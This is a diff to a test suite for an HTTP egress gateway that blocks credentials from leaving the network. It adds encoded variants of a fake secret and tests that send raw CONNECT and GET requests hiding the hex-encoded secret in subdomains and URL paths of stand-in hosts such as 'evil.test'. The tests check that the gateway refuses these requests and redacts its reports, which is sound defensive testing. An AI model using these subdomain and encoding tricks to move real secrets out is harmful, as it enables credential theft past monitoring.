@@ -22,6 +22,10 @@ const SECRET = 'sk-test-SECRET-0123456789abcdef';
 const ENCODED = {
   raw: SECRET,
   base64: Buffer.from(SECRET).toString('base64'),
+  // The other two alignments: the secret after one and two bytes of something else.
+  'base64 (offset 1)': Buffer.from(`x${SECRET}`).toString('base64'),
+  'base64 (offset 2)': Buffer.from(`xy${SECRET}`).toString('base64'),
+  base64url: Buffer.from(`?${SECRET}`).toString('base64url'),
   hex: Buffer.from(SECRET).toString('hex'),
   url: encodeURIComponent(SECRET).replace(/-/g, '%2D'),
 };
@@ -40,6 +44,7 @@ describe('gateway', () => {
     { host: 'plain.test' },
     { host: 'paths.test', methods: ['GET' as const], paths: ['/v1/'] },
     { host: 'localhost' },
+    { host: '*.wild.test' },
   ];
   const credentials = [
     { name: 'tok', value: SECRET, inject: { type: 'bearer' as const }, hosts: ['api.test'] },
@@ -157,6 +162,44 @@ describe('gateway', () => {
       assert.equal(up.seen.length, n, 'the upstream received none of them');
     });
   }
+
+  it('scans the request line: a credential in the CONNECT authority is refused before any DNS lookup', async () => {
+    const hex = Buffer.from(SECRET).toString('hex');
+    const before = gw.control.events.length;
+    const t = await rawExchange(
+      sock,
+      `CONNECT ${hex}.wild.test:443 HTTP/1.1\r\nHost: ${hex}.wild.test:443\r\n\r\n`,
+    );
+    assert.match(t, /^HTTP\/1\.1 403/);
+    assert.match(t, /X-Airlock-Block: exfiltration:tok/i);
+    const plain = await rawExchange(
+      sock,
+      `GET http://${hex}.wild.test/ HTTP/1.1\r\nHost: ${hex}.wild.test\r\n\r\n`,
+    );
+    assert.match(plain, /X-Airlock-Block: exfiltration:tok/i);
+    await lastBlock('exfiltration:tok');
+    await sleep(50);
+    // Neither block report carries the secret: they go to the audit log and the session's page.
+    const reports = JSON.stringify(gw.control.events.slice(before));
+    assert.match(reports, /exfiltration:tok/);
+    assert.ok(!reports.toLowerCase().includes(hex.toLowerCase()), reports);
+  });
+
+  it('never reports a secret in a block, even for a refusal that is not about it', async () => {
+    const before = gw.control.events.length;
+    // Not on the list at all (rule no-route), with the secret raw in the path and hex in the host
+    // (host names are lower-cased before anything reads them; hex survives that, base64 does not).
+    await rawExchange(sock, `GET http://nowhere.test/${SECRET} HTTP/1.1\r\nHost: nowhere.test\r\n\r\n`);
+    const hex = Buffer.from(SECRET).toString('hex').toUpperCase();
+    await rawExchange(sock, `CONNECT ${hex}.evil.test:443 HTTP/1.1\r\nHost: ${hex}.evil.test:443\r\n\r\n`);
+    await sleep(100);
+    const reports = gw.control.events.slice(before);
+    assert.equal(reports.length, 2, JSON.stringify(reports));
+    const text = JSON.stringify(reports);
+    assert.ok(!text.includes(SECRET) && !text.toLowerCase().includes(hex.toLowerCase()), text);
+    assert.match(text, /"path":"\/\[REDACTED:tok\]"/);
+    assert.match(text, /"host":"(\[withheld: it carried a secret\]|\[REDACTED:tok\]\.evil\.test)"/);
+  });
 
   it('blocks a credential split across body chunks, and the upstream never gets the whole of it', async () => {
     const n = up.seen.length;
